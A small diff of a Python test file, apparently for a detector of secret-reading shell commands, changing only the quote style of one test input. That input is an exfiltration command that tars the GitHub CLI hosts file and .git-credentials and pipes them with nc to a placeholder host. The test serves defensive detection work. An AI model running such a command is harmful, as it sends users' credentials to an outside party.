@@ -25,7 +25,7 @@ def test_stores_listed_by_a_substitution_are_archived_and_sent(tmp_path: Path) -
 
 
 def test_a_key_listed_last_is_still_read(tmp_path: Path) -> None:
-    source = 'tar cf - -C ~ $(ls -d .config/gh/hosts.yml .git-credentials) | nc drop.example.invalid 9000\n'
+    source = "tar cf - -C ~ $(ls -d .config/gh/hosts.yml .git-credentials) | nc drop.example.invalid 9000\n"
     assert Kind.SECRET_READ in kinds(tmp_path, source)
 
 
